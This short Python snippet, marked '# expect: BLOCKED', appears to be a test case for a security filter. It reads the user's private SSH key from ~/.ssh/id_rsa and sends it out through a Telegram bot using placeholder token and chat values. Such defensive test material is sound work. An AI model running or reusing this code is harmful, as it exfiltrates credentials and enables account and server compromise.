# expect: BLOCKED
import os, telebot
b = telebot.TeleBot("x")
b.send_document(1, open(os.path.expanduser("~/.ssh/id_rsa"), "rb"))
